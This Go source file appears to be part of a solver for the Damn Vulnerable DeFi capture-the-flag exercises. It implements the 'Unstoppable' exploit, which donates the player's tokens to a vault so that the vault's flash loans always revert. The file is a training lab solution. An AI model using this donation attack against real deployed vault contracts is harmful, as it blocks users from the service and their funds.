package scenarios

import (
	"context"
	"math/big"

	"github.com/ethereum/go-ethereum/common"

	"github.com/mjkid221/damn-vulnerable-defi/common/errs"
	"github.com/mjkid221/damn-vulnerable-defi/exploit"
	txmgr "github.com/mjkid221/damn-vulnerable-defi/txmgr/ethereum"
)

// Unstoppable donates the player's tokens straight to the vault. Its share
// supply no longer matches its token balance, so every flash loan reverts
// from then on.
//
// Addresses: token, vault.
func Unstoppable(ctx context.Context, p Params) (*exploit.Config, error) {
	addrs, err := p.addresses("token", "vault")
	if err != nil {
		return nil, err
	}
	donation, err := p.tokenBalance(ctx, "player-tokens", addrs["token"], p.Player)
	if err != nil {
		return nil, err
	}
	if donation.Sign() == 0 {
		return nil, errs.NewError(errs.ErrorTypeValidation, "player holds no tokens to donate").
			AddContext("player", p.Player.Hex())
	}
	held, err := p.tokenBalance(ctx, "vault-tokens", addrs["token"], addrs["vault"])
	if err != nil {
		return nil, err
	}
	addrs["player"] = p.Player

	return &exploit.Config{
		Name:      "unstoppable",
		Addresses: addrs,
		Watch:     []common.Address{p.Player},
		Steps: []exploit.Step{
			&exploit.SubmitCall{
				Name: "donate",
				To:   to("token"),
				Data: txmgr.BuildErc20TransferData(addrs["vault"], donation),
			},
		},
		Postconditions: []exploit.Postcondition{
			exploit.TokenBalanceEquals(exploit.Ref("token"), exploit.Ref("vault"), new(big.Int).Add(held, donation)),
			exploit.TokenBalanceEquals(exploit.Ref("token"), exploit.Ref("player"), new(big.Int)),
		},
	}, nil
}
